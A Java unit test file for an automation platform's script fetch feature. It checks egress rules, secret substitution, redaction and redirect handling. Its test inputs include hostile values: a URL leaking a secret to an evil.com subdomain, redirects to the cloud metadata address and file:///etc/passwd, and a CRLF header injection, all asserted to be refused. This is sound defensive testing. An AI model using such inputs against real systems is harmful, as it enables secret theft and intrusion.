package io.oarlock.engine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.oarlock.automations.HostCallException;
import io.oarlock.automations.HostCalls;
import io.oarlock.automations.RunRequest;
import io.oarlock.automations.RunResult;
import io.oarlock.automations.ScriptError;
import io.oarlock.automations.Usage;
import io.oarlock.model.NamespacePath;
import io.oarlock.model.Operation;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ScriptFetchesTest {
  private static final String SECRET = "xoxb-12 34/ä";

  @TempDir private Path directory;
  private final Fetching runner = new Fetching();
  private TestPlatform platform;
  private TestPlatform.Caller admin;
  private Receiver receiver;
  private Receiver elsewhere;
  private String automation = "";

  /** A script that makes the one host call of the test. */
  private static final class Fetching extends TestPlatform.Scripts {
    volatile String operation = "fetch";
    volatile Map<String, Object> arguments = Map.of();
    volatile @Nullable HostCallException refused;

    @Override
    public RunResult run(RunRequest request, HostCalls host) {
      try {
        refused = null;
        return new RunResult.Succeeded(host.call(operation, arguments), Usage.none());
      } catch (HostCallException e) {
        refused = e;
        return new RunResult.Failed(new ScriptError("refused", 1, 1, ""), Usage.none());
      }
    }
  }

  @BeforeEach
  void start() {
    platform = new TestPlatform(directory, runner);
    admin = platform.admin();
    admin.create("namespace", "/", Map.of("name", "acme"));
    admin.create("egresspolicy", "/acme", Map.of("name", "local", "allow", List.of("127.0.0.0/8")));
    admin.create(
        "secret",
        "/acme",
        Map.of("name", "token", "value", SECRET, "destinations", List.of("127.0.0.1")));
    admin.create(
        "secret",
        "/acme",
        Map.of("name", "ascii", "value", "abc-123", "destinations", List.of("127.0.0.1")));
    var made =
        admin.create(
            "automation",
            "/acme",
            Map.of(
                "name",
                "fetches",
                "trigger",
                Map.of("kind", "OnCall"),
                "secrets",
                List.of("token", "ascii"),
                "source",
                "export default async function (ctx) {}"));
    automation = Trees.required(made, "id");
    receiver = new Receiver(false);
    elsewhere = new Receiver(false);
  }

  @AfterEach
  void stop() {
    receiver.close();
    elsewhere.close();
    platform.close();
  }

  private Map<String, Object> fetch(String url, Map<String, Object> more) throws HostCallException {
    var arguments = new LinkedHashMap<String, Object>();
    arguments.put("url", url);
    arguments.putAll(more);
    runner.arguments = arguments;
    return Trees.object(run().get("result"));
  }

  /** Runs the automation for real, not dry. */
  private Map<String, Object> run() throws HostCallException {
    var type = TestPlatform.MODEL.require("automation");
    var action =
        type.actions().stream().filter(a -> a.name().equals("test")).findFirst().orElseThrow();
    var principal = platform.engine.authenticate(admin.token(), TestPlatform.origin());
    var run =
        platform.engine.act(
            new ActionCall(
                action,
                type,
                NamespacePath.of("/acme"),
                Optional.of(automation),
                Map.of("dryRun", false),
                Map.of(),
                new Call.Caller(principal, Cause.request("r"), TestPlatform.origin())));
    var refused = runner.refused;
    if (refused != null) {
      throw refused;
    }
    return run;
  }

  private void assertRefused(String code, String url, Map<String, Object> more) {
    assertThatThrownBy(() -> fetch(url, more))
        .isInstanceOfSatisfying(
            HostCallException.class,
            refusal -> {
              assertThat(refusal.code()).isEqualTo(code);
              assertThat(refusal.getMessage()).doesNotContain("xoxb");
            });
  }

  @Test
  void aScriptFetches() throws Exception {
    receiver.answers(201, "{\"ok\": true}");

    var answer =
        fetch(
            receiver.url("/a?b=c"),
            Map.of("method", "POST", "headers", Map.of("X-Mine", "1"), "body", "hello"));

    var message = receiver.messages.getFirst();
    assertThat(answer).containsEntry("status", 201L).containsEntry("body", "{\"ok\": true}");
    assertThat(message.path()).isEqualTo("/a?b=c");
    assertThat(message.body()).isEqualTo("hello");
    assertThat(message.headers()).containsEntry("x-mine", "1");
    assertThat(message.headers().get("host")).isEqualTo("127.0.0.1:" + receiver.port());
  }

  @Test
  void aHandleBecomesTheSecretOnTheWayOut() throws Exception {
    fetch(
        receiver.url("/p?key=${secret:token}&again=$%7Bsecret:token%7D"),
        Map.of(
            "method",
            "POST",
            "headers",
            Map.of("Authorization", "Bearer ${secret:ascii}"),
            "body",
            "t=${secret:token};"));

    var message = receiver.messages.getFirst();
    var encoded = "xoxb-12%2034%2F%C3%A4";
    assertThat(message.path()).isEqualTo("/p?key=" + encoded + "&again=" + encoded);
    assertThat(message.body()).isEqualTo("t=" + SECRET + ";");
    assertThat(message.headers()).containsEntry("authorization", "Bearer abc-123");
  }

  @Test
  void aServerThatSendsTheSecretBackTellsTheScriptNothing() throws Exception {
    receiver.answer =
        (request, message) -> {
          request.response().putHeader("x-seen", message.path());
          Receiver.reply(request, 200, message.body() + message.path());
        };

    var answer =
        fetch(receiver.url("/${secret:token}"), Map.of("method", "PUT", "body", "${secret:token}"));

    assertThat(answer.toString()).doesNotContain("xoxb").contains("***/***");
  }

  @Test
  void aSecretGoesOnlyWhereItIsBound() throws Exception {
    var byName = "http://localhost:" + receiver.port() + "/";
    assertRefused("secret-destination", byName, Map.of("headers", header("${secret:token}")));
    assertRefused("secret-destination", "http://${secret:token}.evil.com/", Map.of());
    assertRefused("secret-not-bound", receiver.url("/${secret:other}"), Map.of());
    assertThat(receiver.messages).isEmpty();

    admin.plain(Operation.DELETE, "secret", "/acme", "name:token", Map.of());
    assertRefused("no-secret", receiver.url("/${secret:token}"), Map.of());
    runner.operation = "secrets.get";
    runner.arguments = Map.of("name", "token");
    assertThatThrownBy(this::run).hasMessageContaining("no secret token");
  }

  private static Map<String, Object> header(String value) {
    return Map.of("x-token", value);
  }

  @Test
  void secretsDoNotFollowARedirectToAnotherHost() throws Exception {
    redirect(307, "http://localhost:" + elsewhere.port() + "/there");

    fetch(
        receiver.url("/"),
        Map.of("headers", Map.of("x-token", "a${secret:ascii}", "x-plain", "b", "cookie", "c")));

    assertThat(receiver.messages.getFirst().headers()).containsKey("x-token");
    assertThat(elsewhere.messages.getFirst().headers())
        .containsEntry("x-plain", "b")
        .doesNotContainKeys("x-token", "cookie");
    assertRefused(
        "secret-destination",
        receiver.url("/"),
        Map.of("method", "POST", "body", "${secret:token}"));
  }

  private void redirect(int status, String to) {
    receiver.answer =
        (request, _) -> {
          request.response().putHeader("location", to);
          Receiver.reply(request, status, "");
        };
  }

  @Test
  void redirectsAreFollowedWithinReasonAndCheckedEachTime() throws Exception {
    redirect(302, elsewhere.url("/there"));
    assertThat(fetch(receiver.url("/"), Map.of()))
        .containsEntry("status", 200L)
        .containsEntry("redirected", true)
        .containsEntry("url", elsewhere.url("/there"));
    assertThat(fetch(receiver.url("/"), Map.of("redirect", "manual")))
        .containsEntry("status", 302L);
    assertRefused("redirect", receiver.url("/"), Map.of("redirect", "error"));

    redirect(302, "/again");
    assertRefused("redirect", receiver.url("/"), Map.of());
    redirect(302, "http://169.254.169.254/latest/meta-data");
    assertRefused("egress-denied", receiver.url("/"), Map.of());
    redirect(302, "file:///etc/passwd");
    assertRefused("egress-denied", receiver.url("/"), Map.of());
  }

  @Test
  void aReplyThatIsTooLongEndsTheFetch() {
    receiver.answers(200, "x".repeat(ScriptFetches.REPLY_MAX + 1));

    assertRefused("too-large", receiver.url("/"), Map.of());
  }

  @Test
  void headersThatFrameMessagesAreTheClientsOwn() throws Exception {
    fetch(
        receiver.url("/"),
        Map.of("headers", Map.of("Host", "other.example.com", "Transfer-Encoding", "chunked")));

    assertThat(receiver.messages.getFirst().headers())
        .containsEntry("host", "127.0.0.1:" + receiver.port())
        .doesNotContainKey("transfer-encoding");
    assertRefused("bad-argument", receiver.url("/"), Map.of("headers", Map.of("a", "b\r\nc: d")));
    assertRefused("bad-argument", receiver.url("/"), Map.of("method", "CONNECT"));
  }
}
